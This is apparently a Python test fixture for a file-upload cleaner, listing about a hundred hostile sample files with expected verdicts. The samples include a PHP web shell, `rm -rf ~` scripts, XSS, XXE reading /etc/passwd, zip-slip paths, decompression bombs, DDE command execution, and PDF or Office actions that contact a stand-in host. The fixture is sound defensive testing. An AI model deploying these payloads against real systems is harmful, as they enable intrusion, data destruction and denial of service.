"""A hundred files that mean harm, made here: name, bytes, and what becomes of them (a refusal's code or "harmless")."""

import io
import struct
import tarfile
import zipfile
import zlib

import pikepdf

from tests.files import samples
from tests.files.pictures import picture
from tests.files.test_cleaning import bomb, chunk

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
RUNS = b"EVILSCRIPT"
ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
EXE = b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LAUGHS = (
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]><x>&a11;</x>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
REMOTE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'
W = f'<w:document xmlns:w="{samples.WORD}"><w:body>%s</w:body></w:document>'


def word(body: str) -> bytes:
    return samples.docx(**{"word/document.xml": W % body})


def sheet(cell: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return samples.archive({
        "[Content_Types].xml": f'<Types xmlns="{samples.PACKAGE}/content-types"><Override PartName="/xl/workbook.xml" '
        f'ContentType="{samples.SHEET}"/></Types>',
        "xl/workbook.xml": f'<workbook xmlns="{main}"/>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">{cell}</worksheet>',
    })  # fmt: skip


def macro_office(kind: str) -> bytes:
    return samples.archive({
        "[Content_Types].xml": f'<Types xmlns="{samples.PACKAGE}/content-types"><Override PartName="/x.xml" '
        f'ContentType="application/vnd.ms-{kind}.macroEnabled.main+xml"/></Types>',
        "x.xml": "<x/>",
    })  # fmt: skip


def made_pdf(change=None) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page(page_size=(100, 100))
    if change:
        change(made)
    made.save(out)
    return out.getvalue()


def action(**entries):
    """A link over the page that does this."""

    def change(made):
        deed = pikepdf.Dictionary(**{
            key: pikepdf.Name(value) if value.startswith("/") else pikepdf.String(value)
            for key, value in entries.items()
        })  # fmt: skip
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=deed
        )
        made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(link)])
        made.Root.OpenAction = deed

    return change


def raw_pdf(*objects: bytes) -> bytes:
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(6_000))
    leaf = b"<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 6000>>" % kids, *[leaf] * 6_000
    )


def deep_pages(depth: int) -> bytes:
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(depth)]
    leaf = b"<</Type/Page/MediaBox[0 0 9 9]/Parent %d 0 R>>" % (depth + 1)
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, leaf)


def flate_pdf(megabytes: int) -> bytes:
    packed = zlib.compress(bytes(megabytes * 1024 * 1024), 9)
    image = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/Filter[/FlateDecode/DCTDecode]/Length %d>>"
        % len(packed)
    )
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</A 4 0 R>>>>>>",
        image + b"stream\n" + packed + b"\nendstream",
    )


def lying_zip() -> bytes:
    """Says 10 bytes, unpacks to 9 MB."""
    content = bytearray(samples.archive({"mimetype": "application/vnd.oasis.opendocument.text",
                                         "content.xml": bytes(9 * 1024 * 1024)}))  # fmt: skip
    size = struct.pack("<I", 9 * 1024 * 1024)
    at = 0
    while (at := content.find(size, at)) >= 0:
        content[at : at + 4] = struct.pack("<I", 10)
    return bytes(content)


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


def nested_zip(depth: int) -> bytes:
    content = b"x"
    for _ in range(depth):
        content = samples.archive({"inner.zip": content})
    return content


def locked_zip() -> bytes:
    content = bytearray(samples.archive({"a.txt": "words"}))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(sign) + at] |= 1
    return bytes(content)


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        made.addfile(tarfile.TarInfo("../../etc/cron.d/x"))
    return out.getvalue()


def png_text_bomb() -> bytes:
    """A compressed remark that unpacks to 40 MB."""
    whole = picture("PNG")
    text = b"Comment\0\0" + zlib.compress(bytes(40 * 1024 * 1024), 9)
    return whole[:33] + chunk(b"zTXt", text) + whole[33:]


def many_frames() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), (n % 256, 0, 0)) for n in range(600)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], lossless=True, method=0)
    return out.getvalue()


def book(**parts: bytes | str) -> bytes:
    return samples.archive({
        "mimetype": "application/epub+zip", "META-INF/container.xml": "<container/>",
        "OEBPS/book.opf": '<package xmlns="http://www.idpf.org/2007/opf"><metadata/></package>', **parts,
    })  # fmt: skip


def page(body: str) -> str:
    return f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'


def text_document(body: str) -> bytes:
    office = f"{samples.OASIS}:office:1.0"
    return samples.archive({
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<o:document-content xmlns:o="{office}" xmlns:s="{samples.OASIS}:script:1.0" '
        f'xmlns:t="{samples.OASIS}:text:1.0" xmlns:d="{samples.OASIS}:drawing:1.0" '
        f'xmlns:x="http://www.w3.org/1999/xlink"><o:body>{body}</o:body></o:document-content>',
    })  # fmt: skip


def mp4_lie() -> bytes:
    """A table of four thousand million samples."""
    return samples.mp4().replace(
        struct.pack(">IIII", 0, 0, 1, 10), struct.pack(">IIII", 0, 0, 2**32 - 1, 10), 1
    )


def with_names(made):
    names = pikepdf.Array([
        pikepdf.String("a"), pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(RUNS.decode()))
    ])  # fmt: skip
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def with_attachment(made):
    made.attachments["run.exe"] = EXE + RUNS


def with_form(made):
    made.Root.AcroForm = pikepdf.Dictionary(
        XFA=made.make_stream(b"<script>" + RUNS + b"</script>"), Fields=[]
    )


def with_hover(made):
    deed = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(RUNS.decode()))
    made.pages[0].obj.AA = pikepdf.Dictionary(O=deed)


def with_outside_stream(made):
    stream = made.make_stream(b"")
    stream.F = pikepdf.String(f"\\\\192.0.2.1\\{RUNS.decode()}\\x")
    made.pages[0].obj.Contents = stream


JPEG = picture("JPEG")
RELS = f'<Relationships xmlns="{samples.PACKAGE}/relationships"><Relationship Id="rId1" Type="{samples.OFFICE}/%s" ' \
    'Target="%s" TargetMode="External"/></Relationships>'  # fmt: skip


def leads(kind: str, target: str) -> bytes:
    return samples.docx(**{"word/_rels/document.xml.rels": RELS % (kind, target)})


HOSTILE: dict[str, tuple[str, object, str]] = {
    # what it is: (name, bytes or what makes them, what becomes of it)
    # Not what they say they are ---------------------------------------------------------------------------------
    "page named picture": ("photo.png", HTML, "not_as_named"),
    "page named text": ("a.txt", HTML, "harmless"),
    "page under its own name": ("a.html", HTML, "not_as_named"),
    "page as xhtml": ("a.xhtml", page("<script>alert(1)</script>").encode(), "not_as_named"),
    "page behind an empty line": ("photo.jpg", b"\n\n" + HTML, "not_as_named"),
    "page with a picture's first bytes": ("photo.gif", b"GIF89a/*" + HTML + b"*/", "not_as_named"),
    "script named sound": ("a.mp3", b"#!/bin/sh\nrm -rf ~\n", "not_as_named"),
    "script under its own name": ("a.sh", b"#!/bin/sh\nrm -rf ~\n", "not_as_named"),
    "php named picture": ("a.jpg", b"<?php system($_GET['c']); ?>", "not_as_named"),
    "php behind a picture's sign": ("a.jpg", b"\xff\xd8\xff\xe0<?php system(1); ?>", "damaged"),
    "php in a picture's remark": ("a.jpg", JPEG[:2] + b"\xff\xfe\0\x10<?php x(); ?>" + JPEG[2:], "harmless"),
    "pdf named picture": ("photo.jpg", made_pdf, "not_as_named"),
    "picture named pdf": ("a.pdf", JPEG, "not_as_named"),
    "program": ("a.exe", EXE, "type"),
    "program named pdf": ("a.pdf", EXE, "type"),
    "program named letter": ("a.docx", ELF, "type"),
    "old office file named new": ("a.docx", OLE, "type"),
    "old office file": ("a.doc", OLE, "type"),
    "shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(80), "type"),
    "internet shortcut": ("a.url", b"[InternetShortcut]\nURL=file://192.0.2.1/x\n", "not_as_named"),
    "help with programs": ("a.hta", b"<script language='VBScript'>x</script>", "not_as_named"),
    "java archive": ("a.jar", lambda: samples.archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "not_as_named"),
    "java archive named zip": ("a.zip", lambda: samples.archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe\0"}), "embedded"),
    "tar": ("a.tar.gz", tar, "type"),
    "gzip bomb": ("a.gz", lambda: zlib.compress(bytes(10**7), 9, 31), "type"),
    "gzip bomb named pdf": ("a.pdf", lambda: zlib.compress(bytes(10**7), 9, 31), "type"),
    "xz sign": ("a.pdf", b"\xfd7zXZ\0" + bytes(50), "type"),
    "rar": ("a.zip", b"Rar!\x1a\x07\x01\0" + bytes(50), "type"),
    "gif": ("a.gif", b"GIF89a" + bytes(40), "type"),
    "tiff": ("a.tiff", b"II*\0" + bytes(40), "type"),
    "flash": ("a.pdf", b"FWS\x09" + bytes(40), "type"),
    "postscript": ("a.pdf", b"%!PS-Adobe-3.0\n(x) run", "not_as_named"),
    "nothing": ("a.pdf", b"", "empty"),
    "zeros": ("a.pdf", bytes(5000), "type"),
    "too many bytes": ("a.txt", lambda: b"a" * 21 * 1024 * 1024, "too_large"),
    # Drawings -----------------------------------------------------------------------------------------------------
    "drawing with scripts": ("a.svg", SVG, "not_as_named"),
    "drawing named picture": ("a.png", SVG, "not_as_named"),
    "drawing that asks elsewhere": ("a.webp", b'<svg><image href="http://192.0.2.1/"/></svg>', "not_as_named"),
    "drawing packed": ("a.svgz", lambda: zlib.compress(SVG, 9, 31), "type"),
    "drawing in a letter": ("a.docx", lambda: samples.docx(**{"word/media/a.svg": SVG.replace(b"alert(1)", RUNS)}), "harmless"),
    # Two at once ---------------------------------------------------------------------------------------------------
    "picture and zip": ("a.jpg", lambda: JPEG + samples.archive({"run.js": RUNS}), "harmless"),
    "picture and page": ("a.jpg", JPEG + HTML + RUNS, "harmless"),
    "picture and java": ("a.png", lambda: picture("PNG") + samples.archive({"A.class": RUNS}), "harmless"),
    "pdf and zip": ("a.pdf", lambda: made_pdf() + samples.archive({"run.js": RUNS}), "harmless"),
    "zip and pdf": ("a.pdf", lambda: samples.archive({"run.js": RUNS}) + made_pdf(), "not_as_named"),
    "page before a pdf": ("a.pdf", lambda: HTML + made_pdf(), "type"),
    "sound and page": ("a.wav", lambda: samples.wav() + HTML + RUNS, "harmless"),
    "letter and program": ("a.docx", lambda: EXE + samples.docx(), "type"),
    "film and page": ("a.mp4", lambda: samples.mp4() + samples.box(b"free", HTML, RUNS), "harmless"),
    # Pictures ------------------------------------------------------------------------------------------------------
    "picture of 50,000 by 50,000": ("a.png", lambda: bomb(50_000, 50_000), "too_many_pixels"),
    "picture of a narrow million": ("a.png", lambda: bomb(1_000_000, 1), "too_many_pixels"),
    "picture of 2**31": ("a.png", lambda: bomb(2**31 - 1, 2**31 - 1), "too_many_pixels"),
    "picture of nothing": ("a.png", lambda: bomb(0, 0), "type"),
    "picture half there": ("a.jpg", lambda: picture(size=(400, 400))[:900], "damaged"),
    "picture with a remark of 40 MB": ("a.png", png_text_bomb, "damaged"),
    "animation of 600 pictures": ("a.webp", many_frames, "harmless"),
    "heic of noise": ("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(400), "type"),
    "avif of noise": ("a.avif", b"\0\0\0\x18ftypavif\0\0\0\0avifmif1" + b"\xff" * 400, "type"),
    "webp of noise": ("a.webp", b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\x7f" + bytes(90), "damaged"),
    # PDF -----------------------------------------------------------------------------------------------------------
    "pdf that runs a script": ("a.pdf", lambda: made_pdf(action(S="/JavaScript", JS=RUNS.decode())), "harmless"),
    "pdf that starts a program": ("a.pdf", lambda: made_pdf(action(S="/Launch", F=RUNS.decode() + ".exe")), "harmless"),
    "pdf that sends a form": ("a.pdf", lambda: made_pdf(action(S="/SubmitForm", F="http://192.0.2.1/" + RUNS.decode())), "harmless"),
    "pdf that opens a share": ("a.pdf", lambda: made_pdf(action(S="/GoToR", F="\\\\192.0.2.1\\" + RUNS.decode())), "harmless"),
    "pdf that links to a disk": ("a.pdf", lambda: made_pdf(action(S="/URI", URI="file:///c:/" + RUNS.decode())), "harmless"),
    "pdf that links to a script": ("a.pdf", lambda: made_pdf(action(S="/URI", URI="javascript:" + RUNS.decode())), "harmless"),
    "pdf that plays": ("a.pdf", lambda: made_pdf(action(S="/Rendition", JS=RUNS.decode())), "harmless"),
    "pdf with named scripts": ("a.pdf", lambda: made_pdf(with_names), "harmless"),
    "pdf with a program inside": ("a.pdf", lambda: made_pdf(with_attachment), "harmless"),
    "pdf with a form of forms": ("a.pdf", lambda: made_pdf(with_form), "harmless"),
    "pdf that wakes on a page": ("a.pdf", lambda: made_pdf(with_hover), "harmless"),
    "pdf with bytes elsewhere": ("a.pdf", lambda: made_pdf(with_outside_stream), "harmless"),
    "pdf of 6,000 pages": ("a.pdf", many_pages, "too_many_pages"),
    "pdf of 100,000 nested pages": ("a.pdf", lambda: deep_pages(100_000), None),
    "pdf whose pages are a ring": ("a.pdf", lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>"), "damaged"),
    "pdf that unpacks to 70 MB": ("a.pdf", lambda: flate_pdf(70), "damaged"),
    "pdf of open brackets": ("a.pdf", lambda: raw_pdf(b"[" * 500_000, b"<<>>"), "damaged"),
    "pdf locked": ("a.pdf", samples.locked_pdf, "locked"),
    # Office --------------------------------------------------------------------------------------------------------
    "letter with macros": ("a.docm", lambda: macro_office("word.document"), "macros"),
    "letter with macros named without": ("a.docx", lambda: macro_office("word.document"), "macros"),
    "sheet with macros": ("a.xlsm", lambda: macro_office("excel.sheet"), "macros"),
    "template with macros": ("a.dotm", lambda: macro_office("word.template"), "macros"),
    "letter with a hidden project": ("a.docx", lambda: samples.docx(**{"word/VBAPROJECT.bin": OLE}), "macros"),
    "letter with controls": ("a.docx", lambda: samples.docx(**{"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "letter with an old one inside": ("a.docx", lambda: samples.docx(**{"word/embeddings/o.bin": OLE}), "embedded"),
    "letter with a program inside": ("a.docx", lambda: samples.docx(**{"word/embeddings/x.exe": EXE}), "embedded"),
    "letter that starts a program": ("a.docx", lambda: word('<w:p><w:r><w:instrText> DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'), "macros"),
    "letter that starts one simply": ("a.docx", lambda: word('<w:fldSimple w:instr="DDE cmd x"/>'), "macros"),
    "letter with a template elsewhere": ("a.docx", lambda: leads("attachedTemplate", f"http://192.0.2.1/{RUNS.decode()}"), "harmless"),
    "letter with a picture elsewhere": ("a.docx", lambda: leads("image", f"http://192.0.2.1/{RUNS.decode()}"), "harmless"),
    "letter with a frame elsewhere": ("a.docx", lambda: leads("frame", f"\\\\192.0.2.1\\{RUNS.decode()}"), "harmless"),
    "letter that laughs": ("a.docx", lambda: samples.docx(**{"word/document.xml": LAUGHS}), "damaged"),
    "letter that reads the disk": ("a.docx", lambda: samples.docx(**{"word/document.xml": OUTSIDE}), "damaged"),
    "letter that asks for rules": ("a.docx", lambda: samples.docx(**{"word/document.xml": REMOTE}), "damaged"),
    "letter of 100,000 brackets": ("a.docx", lambda: word("<w:p>" * 100_000 + "</w:p>" * 100_000), "damaged"),
    "letter that unpacks to 210 MB": ("a.docx", lambda: samples.docx(**{"word/x.xml": bytes(210 * 1024 * 1024)}), "bomb"),
    "letter as dense as a bomb": ("a.docx", lambda: samples.docx(**{"word/x.xml": b"<x>" + bytes(40 * 1024 * 1024)}), "bomb"),
    "letter of 6,000 parts": ("a.docx", lambda: samples.docx(**{f"word/{n}.xml": "<x/>" for n in range(6000)}), "bomb"),
    "letter with a picture that is a bomb": ("a.docx", lambda: samples.docx(**{"word/media/b.png": bomb(50_000, 50_000)}), "too_many_pixels"),
    "sheet that runs a command": ("a.xlsx", lambda: sheet("<f>cmd|'/c calc'!A0</f>"), "macros"),
    "sheet with a live link": ("a.xlsx", lambda: sheet('<ddeLink ddeService="cmd" ddeTopic="x"/>'), "macros"),
    "text document with basic": ("a.odt", lambda: samples.odt(**{"Basic/Standard/M.xml": "<x/>"}), "macros"),
    "text document with python": ("a.odt", lambda: samples.odt(**{"Scripts/python/x.py": "import os"}), "macros"),
    "text document that listens": ("a.odt", lambda: text_document(f'<s:event-listener s:event-name="load" x:href="vnd.sun.star.script:{RUNS.decode()}"/>'), "harmless"),
    "text document with a live link": ("a.odt", lambda: text_document('<t:dde-connection t:connection-name="x"/>'), "macros"),
    "text document that asks elsewhere": ("a.odt", lambda: text_document(f'<d:image x:href="http://192.0.2.1/{RUNS.decode()}"/>'), "harmless"),
    "text document that laughs": ("a.odt", lambda: samples.odt(**{"content.xml": LAUGHS}), "damaged"),
    "text document that lies about its size": ("a.odt", lying_zip, "damaged"),
    # Books ---------------------------------------------------------------------------------------------------------
    "book with a script": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": page("<script>x</script>")}), "macros"),
    "book with a script beside": ("a.epub", lambda: book(**{"OEBPS/a.js": "x"}), "macros"),
    "book with a handler": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": page(f'<img onerror="{RUNS.decode()}()"/>')}), "harmless"),
    "book with a script as a link": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": page(f'<a href=" javascript:{RUNS.decode()}">x</a>')}), "harmless"),
    "book with a frame": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": page(f'<iframe src="http://192.0.2.1/{RUNS.decode()}"/>')}), "harmless"),
    "book with a counting picture": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": page(f'<img src="http://192.0.2.1/{RUNS.decode()}"/>')}), "harmless"),
    "book with a style elsewhere": ("a.epub", lambda: book(**{"OEBPS/a.css": f"@import 'http://192.0.2.1/{RUNS.decode()}';"}), "harmless"),
    "book with laughs": ("a.epub", lambda: book(**{"OEBPS/a.xhtml": LAUGHS}), "damaged"),
    # Rich text -------------------------------------------------------------------------------------------------------
    "rich text with an object": ("a.rtf", rb"{\rtf1{\object\objautlink{\*\objdata 0105}}}", "embedded"),
    "rich text with hidden bytes": ("a.rtf", rb"{\rtf1\bin5 xxxxx}", "embedded"),
    "rich text with a template elsewhere": ("a.rtf", rb"{\rtf1{\*\template http://192.0.2.1/" + RUNS + rb"}x}", "harmless"),
    "rich text that starts a program": ("a.rtf", rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd x}}}", "macros"),
    "rich text that never ends": ("a.rtf", rb"{\rtf1" + b"{" * 50_000, "damaged"),
    # Archives --------------------------------------------------------------------------------------------------------
    "zip of zips": ("a.zip", lambda: nested_zip(8), "embedded"),
    "zip that unpacks to 210 MB": ("a.zip", lambda: samples.archive({f"{n}.txt": bytes(70 * 1024 * 1024) for n in range(3)}), "bomb"),
    "zip that climbs out": ("a.zip", lambda: samples.archive({"../../etc/x.txt": "x"}), "damaged"),
    "zip with an absolute way": ("a.zip", lambda: samples.archive({"/etc/x.txt": "x"}), "damaged"),
    "zip with a windows way": ("a.zip", lambda: samples.archive({"..\\..\\x.txt": "x"}), "damaged"),
    "zip with a link": ("a.zip", symlink_zip, "harmless"),
    "zip with a program": ("a.zip", lambda: samples.archive({"a.txt": "x", "setup.exe": EXE}), "embedded"),
    "zip with a page": ("a.zip", lambda: samples.archive({"index.html": HTML}), "embedded"),
    "zip with macros": ("a.zip", lambda: samples.archive({"a.docm": macro_office("word.document")}), "macros"),
    "zip with a bomb of pixels": ("a.zip", lambda: samples.archive({"a.png": bomb(50_000, 50_000)}), "embedded"),
    "zip locked": ("a.zip", locked_zip, "locked"),
    "zip of nothing": ("a.zip", lambda: samples.archive({"a/": ""}), "empty"),
    "zip cut off": ("a.zip", lambda: samples.archive({"a.txt": "x" * 900})[:-30], "type"),
    # Sound and film ------------------------------------------------------------------------------------------------
    "film of four thousand million samples": ("a.mp4", mp4_lie, "damaged"),
    "film whose pictures lie elsewhere": (
        "a.mp4",
        lambda: samples.mp4().replace(b"url \0\0\0\1", b"url \0\0\0\0"),
        "damaged",
    ),
    "film in boxes without end": ("a.mp4", samples.box(b"ftyp", b"isom") + b"\xff\xff\xff\xffmoov", "damaged"),
    "film in 20,000 boxes": ("a.mp4", lambda: samples.mp4() + samples.box(b"free") * 20_000, "harmless"),
    "webm without an end": ("a.webm", samples.element(0x1A45DFA3, samples.element(0x4282, b"webm")) + b"\x18S\x80g\xff", "damaged"),
    "sound of tags alone": ("a.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(400), "damaged"),
    "wave with a length of 4 GB": ("a.wav", b"RIFF\xff\xff\xff\xffWAVEdata\xff\xff\xff\xff" + bytes(9), "damaged"),
    # Text ------------------------------------------------------------------------------------------------------------
    "text that moves the cursor": ("a.txt", b"hello \x1b]0;evil\x07 \x1b[2J", "type"),
    "text in no code": ("a.txt", b"caf\xe9" * 3000, "type"),
    "text that turns bad later": ("a.csv", b"a;b\n" * 2000 + b"\xff\xfe\x00", "encoding"),
}  # fmt: skip
